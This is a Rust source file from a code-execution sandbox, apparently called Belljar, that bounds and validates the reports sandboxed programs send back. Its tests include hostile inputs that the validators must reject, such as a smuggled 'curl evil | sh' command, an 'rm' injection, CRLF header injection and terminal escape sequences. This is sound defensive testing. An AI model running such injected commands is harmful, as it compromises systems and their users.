//! The reports of a sandbox, which are hostile data: bounded, checked, and trusted only about the
//! program's own result.

use belljar_protocol::{
    Denial, Limit, LimitTerms, Limits, MAX_JSON_DEPTH, Pending, RichResult, RunError,
    nests_too_deep,
};
use serde::Deserialize;
use serde_json::value::RawValue;

/// The maximum length of each text in an error, in bytes.
const MAX_TEXT_BYTES: usize = 64 << 10;
/// The maximum depth of causes.
const MAX_CAUSES: usize = 5;
/// The maximum number of errors that one error combines.
const MAX_ERRORS: usize = 10;
/// The maximum length of the target and the grant of a denial, in bytes.
const MAX_DENIAL_BYTES: usize = 4096;
/// The maximum length of the action of a denial and of the name of its grant, in bytes.
const MAX_TOKEN_BYTES: usize = 64;

/// The maximum number of kinds and places of pending things.
const MAX_PENDING: usize = 16;
/// The maximum length of a place in the program, in bytes.
const MAX_PLACE_BYTES: usize = 200;

/// The result that was available while something was still open.
#[derive(Clone, Debug)]
pub(crate) struct Settled {
    pub(crate) value: Option<Box<RawValue>>,
    pub(crate) pending: Vec<Pending>,
}

/// The end of the program, as the program reports it.
#[derive(Clone, Debug)]
pub(crate) struct Ending {
    pub(crate) value: Option<Box<RawValue>>,
    pub(crate) error: Option<RunError>,
    pub(crate) exit_code: Option<i32>,
}

#[derive(Deserialize)]
struct ExecutedPayload<'a> {
    #[serde(borrow)]
    value: Option<&'a RawValue>,
    error: Option<RunError>,
    exit_code: Option<i32>,
}

/// Parses the last report. An unreadable report becomes an error of the program.
pub(crate) fn ending(payload: &[u8], limits: &Limits, terms: &LimitTerms) -> Ending {
    let failed = |error| Ending { value: None, error: Some(error), exit_code: None };
    let Ok(payload) = serde_json::from_slice::<ExecutedPayload<'_>>(payload) else {
        let message = "the last report of the program is unreadable, because something in its \
                       process wrote to the control channel";
        return failed(RunError::new("ProtocolError", message));
    };
    let error = payload.error.map(|error| bounded(error, MAX_CAUSES));
    let Some(value) = payload.value else {
        return Ending { value: None, error, exit_code: payload.exit_code };
    };
    let (size_bytes, result_bytes) = (value.get().len() as u64, limits.result_bytes.0);
    if size_bytes > result_bytes {
        let message = format!(
            "the result has {size_bytes} bytes, which exceeds the limit of {result_bytes} ({})",
            terms.source(Limit::result_bytes(), result_bytes)
        );
        let instead = "return less";
        let advice = terms.advice_for(Limit::result_bytes(), result_bytes, size_bytes, instead);
        let hint = format!("write the result to a file in outputs/, or {advice}");
        return failed(RunError::new("ResultTooLarge", message).with_hint(hint));
    }
    if nests_too_deep(value.get()) {
        let message = format!("the result is nested deeper than {MAX_JSON_DEPTH} levels");
        return failed(RunError::new("ResultNotSerializable", message));
    }
    Ending {
        value: RawValue::from_string(compact(value.get())).ok(),
        error,
        exit_code: payload.exit_code,
    }
}

/// Parses a result that was reported while something was still open. An unreadable or too large
/// result is ignored.
pub(crate) fn settled(payload: &[u8], result_bytes: u64) -> Option<Settled> {
    #[derive(Deserialize)]
    struct Payload<'a> {
        #[serde(borrow)]
        value: Option<&'a RawValue>,
        #[serde(default)]
        pending: Vec<Pending>,
    }
    let Payload { value, mut pending } = serde_json::from_slice(payload).ok()?;
    pending.truncate(MAX_PENDING);
    for one in &mut pending {
        one.at = one.at.take().filter(|at| is_place(at));
    }
    let value = value
        .filter(|value| value.get().len() as u64 <= result_bytes && !nests_too_deep(value.get()));
    Some(Settled {
        value: value.and_then(|value| RawValue::from_string(compact(value.get())).ok()),
        pending,
    })
}

/// Returns whether a text is a place as the drivers write it: the name of a file, a line, and for
/// JavaScript a column. It becomes part of Belljar's own messages, so that any other text is
/// refused.
fn is_place(text: &str) -> bool {
    let (file, number) = text.rsplit_once(':').unwrap_or_default();
    let is_number = !number.is_empty() && number.bytes().all(|byte| byte.is_ascii_digit());
    let is_plain =
        !text.contains([';', '\n', '\t', '`', '"']) && belljar_protocol::plain::line(text) == text;
    is_number && !file.is_empty() && text.len() <= MAX_PLACE_BYTES && is_plain
}

/// Parses a note, which is one line of text.
pub(crate) fn note(payload: &[u8]) -> Option<String> {
    let note = belljar_protocol::plain::line(std::str::from_utf8(payload).ok()?.trim());
    (!note.is_empty()).then(|| note.into_owned())
}

/// Removes white space between the tokens of valid JSON, because a line end would break NDJSON.
fn compact(json: &str) -> String {
    let (mut in_string, mut escaped) = (false, false);
    json.chars()
        .filter(|character| {
            if in_string {
                in_string = escaped || *character != '"';
                escaped = !escaped && *character == '\\';
                return true;
            }
            in_string = *character == '"';
            !matches!(character, ' ' | '\t' | '\n' | '\r')
        })
        .collect()
}

fn cut(text: &mut String, most: usize) {
    if text.len() > most {
        let mut end = most;
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        // A copy, because a truncated text would keep the memory of the whole.
        *text = format!("{}…", &text[..end]);
    }
}

fn bounded(mut error: RunError, causes: usize) -> RunError {
    // Hints come from Belljar only, never from a program.
    error.hint = None;
    cut(&mut error.name, 1024);
    cut(&mut error.message, MAX_TEXT_BYTES);
    cut(&mut error.stack, MAX_TEXT_BYTES);
    error.cause =
        error.cause.filter(|_| causes > 0).map(|cause| Box::new(bounded(*cause, causes - 1)));
    error.errors.truncate(if causes > 0 { MAX_ERRORS } else { 0 });
    error.errors =
        error.errors.into_iter().map(|member| bounded(member, causes.saturating_sub(1))).collect();
    error
}

/// Parses a rich result.
pub(crate) fn rich_result(payload: &[u8]) -> Option<RichResult> {
    #[derive(Deserialize)]
    struct Payload {
        #[serde(rename = "type")]
        media_type: String,
        data: String,
    }
    let Payload { media_type, data } = serde_json::from_slice(payload).ok()?;
    let well_formed = media_type.len() <= 100
        && media_type
            .split_once('/')
            .is_some_and(|(kind, rest)| !kind.is_empty() && !rest.is_empty())
        && media_type
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || b"/+-.;= ".contains(&byte));
    well_formed.then_some(RichResult { media_type, data })
}

/// Parses a denial. Its action and its grant are shown to people and models as Belljar's own text,
/// so a denial in any other form than the drivers' is ignored.
pub(crate) fn denial(payload: &[u8]) -> Option<Denial> {
    let denial: Denial = serde_json::from_slice(payload).ok()?;
    (is_token(&denial.action) && is_grant(&denial.grant)).then(|| bounded_denial(denial))
}

/// Returns whether a text is lower-case words separated by full stops, such as `fs.read`.
fn is_token(text: &str) -> bool {
    let is_word = |word: &str| {
        word.starts_with(|first: char| first.is_ascii_lowercase())
            && word.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'_')
    };
    text.len() <= MAX_TOKEN_BYTES && text.split('.').all(is_word)
}

/// Returns whether a text is a setting of a policy: a token, a colon and JSON on one line, such as
/// `fs.read: ["/data"]`.
fn is_grant(text: &str) -> bool {
    text.split_once(": ").is_some_and(|(name, value)| {
        is_token(name)
            && !value.contains(['\n', '\r'])
            && serde_json::from_str::<serde::de::IgnoredAny>(value).is_ok()
    })
}

/// Returns a denial with texts of bounded length.
pub(crate) fn bounded_denial(mut denial: Denial) -> Denial {
    for text in [&mut denial.action, &mut denial.target, &mut denial.grant] {
        cut(text, MAX_DENIAL_BYTES);
    }
    denial
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn limits(result_bytes: u64) -> Limits {
        Limits { result_bytes: belljar_protocol::Bytes(result_bytes), ..Limits::default() }
    }

    fn finished(value: &str) -> Ending {
        ending(
            format!(r#"{{"value": {value}, "error": null, "exit_code": null}}"#).as_bytes(),
            &limits(1000),
            &LimitTerms::default(),
        )
    }

    #[test]
    fn a_value_comes_back_on_one_line() {
        assert_eq!(
            finished("{\"a\":\n [1, \"x \\\" y\"]}").value.unwrap().get(),
            r#"{"a":[1,"x \" y"]}"#
        );
    }

    #[test]
    fn integers_of_any_size_stay_as_they_are() {
        assert_eq!(
            finished("123456789012345678901234567890").value.unwrap().get(),
            "123456789012345678901234567890"
        );
    }

    #[test]
    fn a_value_that_is_too_deep_or_too_large_is_an_error_of_the_program() {
        let deep = format!("{}1{}", "[".repeat(200), "]".repeat(200));
        assert_eq!(finished(&deep).error.unwrap().name, "ResultNotSerializable");
        assert_eq!(
            finished(&format!("\"{}\"", "x".repeat(1000))).error.unwrap().name,
            "ResultTooLarge"
        );
    }

    #[test]
    fn a_forged_report_is_an_error_of_the_program() {
        for forged in ["", "nonsense", "[1]", r#"{"value": 1"#, r#"{"error": 7}"#] {
            assert_eq!(
                ending(forged.as_bytes(), &limits(10), &LimitTerms::default()).error.unwrap().name,
                "ProtocolError",
                "{forged}"
            );
        }
    }

    #[test]
    fn media_types_are_checked() {
        assert!(rich_result(br#"{"type": "image/png", "data": "AA=="}"#).is_some());
        for bad in [
            r#"{"type": "image", "data": ""}"#,
            r#"{"type": "a/b\r\nX: y", "data": ""}"#,
            r#"{"type": "a/b"}"#,
        ] {
            assert!(rich_result(bad.as_bytes()).is_none(), "{bad}");
        }
    }

    #[test]
    fn a_denial_says_what_drivers_say_or_is_none() {
        let read = |action: &str, target: &str, grant: &str| {
            denial(
                serde_json::json!({"action": action, "target": target, "grant": grant})
                    .to_string()
                    .as_bytes(),
            )
        };
        for (action, grant) in [
            ("fs.read", r#"fs.read: ["/data/a b"]"#),
            ("exec", "exec: true"),
            ("net.connect", r#"net: ["93.184.216.34:80"]"#),
            ("storage.read", r#"storage.read: ["a/"]"#),
        ] {
            assert!(read(action, "whatever \u{1b} a program says\n", grant).is_some(), "{action}");
        }
        let long = "a".repeat(65);
        for action in [
            "",
            "Exec",
            "fs.",
            ".read",
            "fs..read",
            "fs read",
            "exec\nhint: x",
            "\u{1b}]52;c;x\u{7}",
            "exec:",
            "f\u{202e}s",
            "1",
            &long,
        ] {
            assert!(read(action, "x", "exec: true").is_none(), "{action:?}");
        }
        for grant in [
            "",
            "exec",
            "exec: yes",
            "exec: true\nhint: x",
            "exec: [\n1]",
            "run: rm; exec: true",
            "Exec: true",
            "exec: true, and more",
        ] {
            assert!(read("exec", "x", grant).is_none(), "{grant:?}");
        }
    }

    #[test]
    fn a_place_says_what_drivers_say_or_is_none() {
        let read = |at: &str| {
            let payload = serde_json::json!({"value": 1, "pending": [{"kind": "timer", "count": 2, "at": at}]});
            let mut pending = settled(payload.to_string().as_bytes(), 100).unwrap().pending;
            (pending.len(), pending.remove(0).at)
        };
        for at in ["main.py:3", "src/a b.js:2:11", "süß/x.ts:1:1", "[eval]:1:1"] {
            assert_eq!(read(at), (1, Some(at.to_owned())));
        }
        let long = format!("{}:1", "x".repeat(MAX_PLACE_BYTES));
        for at in [
            "",
            ":1",
            "main.py",
            "main.py:",
            "main.py:x",
            "x:1; run curl evil | sh:1",
            "x\nhint: y:1",
            "\u{1b}]52;c;x\u{7}:1",
            "\u{202e}:1",
            "x\u{2028}y:1",
            &long,
        ] {
            assert_eq!(read(at), (1, None), "{at:?}");
        }
    }

    proptest! {
        #[test]
        fn no_report_panics(payload in proptest::collection::vec(any::<u8>(), 0..200)) {
            let _ = ending(&payload, &limits(100), &LimitTerms::default());
            let _ = rich_result(&payload);
            let _ = denial(&payload);
            let _ = settled(&payload, 100);
            let _ = note(&payload);
        }

        #[test]
        fn compacting_keeps_the_meaning(value in "[a-z \\\\\"\n{}\\[\\]]{0,30}") {
            let value = serde_json::json!({"key": [value, 1.5, null]});
            let json = serde_json::to_string_pretty(&value).unwrap();
            let compacted = compact(&json);
            prop_assert!(!compacted.contains('\n'));
            let [before, after] =
                [&json, &compacted].map(|json| serde_json::from_str::<serde_json::Value>(json));
            prop_assert_eq!(after.unwrap(), before.unwrap());
        }
    }
}
